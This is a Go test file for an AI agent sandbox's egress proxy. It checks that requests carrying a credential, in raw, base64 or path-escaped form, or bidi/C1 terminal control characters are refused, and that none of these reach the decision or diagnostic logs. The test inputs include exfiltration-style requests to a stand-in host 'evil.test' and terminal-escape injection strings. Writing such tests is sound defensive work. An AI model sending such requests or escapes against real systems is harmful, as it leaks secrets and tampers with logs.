package egress

import (
	"encoding/base64"
	"log/slog"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/logtest"
)

// Whatever the agent puts in a request, the egress log holds no form of a
// known credential and no raw character a terminal would act on: the
// request line's method, target and version, a CONNECT target, and a DNS
// query name, each with the credential or a bidi/C1 control in it.
func TestRunLogHoldsNoSecretOrControl(t *testing.T) {
	var diag logtest.Buffer
	r := startRun(t, testPolicy(), &Secrets{Values: []string{secret}}, slog.New(slog.NewTextHandler(&diag, nil)))
	h := r.harness(t)
	b64 := base64.StdEncoding.EncodeToString([]byte("agent:" + secret))
	heads := []string{
		secret + " http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
		b64 + " http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"GET http://evil.test/" + url.PathEscape(secret) + " HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"GET http://evil\u202etset.test/\u009b31m HTTP/1.1\r\nHost: evil\u202etset.test\r\n\r\n",
		"CONNECT evil\u202e.test:443 HTTP/1.1\r\nHost: evil\u202e.test:443\r\n\r\n",
		"GET\u009b2J http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
	}
	for _, head := range heads {
		resp, _, conn, _ := h.raw(head)
		if conn != nil {
			conn.Close()
		}
		if resp != nil && resp.StatusCode == 200 {
			t.Errorf("%q was let through", head)
		}
	}
	for _, name := range []string{"evil\u202etset.test.", "x\u009b.evil.test."} {
		m := new(dns.Msg)
		m.SetQuestion(name, dns.TypeA)
		(&dns.Client{Net: "udp", Timeout: 5 * time.Second}).Exchange(m, r.dnsUDP)
	}
	// Every request above is logged (or the test proves nothing).
	waitEvent(t, r.events(t), "the DNS query", func(e audit.Event) bool { return e.Kind == "dns" && strings.HasPrefix(e.Host, "x") })
	b, _ := os.ReadFile(r.logPath)
	log := string(b)
	// net/http refuses some of the heads before the proxy sees them; the
	// two with the credential as the method and the two queries are logged.
	if n := strings.Count(log, "\n"); n < 4 {
		t.Fatalf("only %d lines:\n%s", n, log)
	}
	// The sidecar's own diagnostic log (docker logs) keeps the same promises.
	for what, text := range map[string]string{"decision log": log, "diagnostic log": diag.String()} {
		for name, form := range map[string]string{"raw": secret, "basic": b64[8:30]} {
			if strings.Contains(strings.ToLower(text), strings.ToLower(form)) {
				t.Errorf("the %s holds the credential (%s):\n%s", what, name, text)
			}
		}
		for _, c := range []string{"\u202e", "\u009b"} {
			if strings.Contains(text, c) {
				t.Errorf("the %s holds %q raw:\n%s", what, c, text)
			}
		}
	}
}
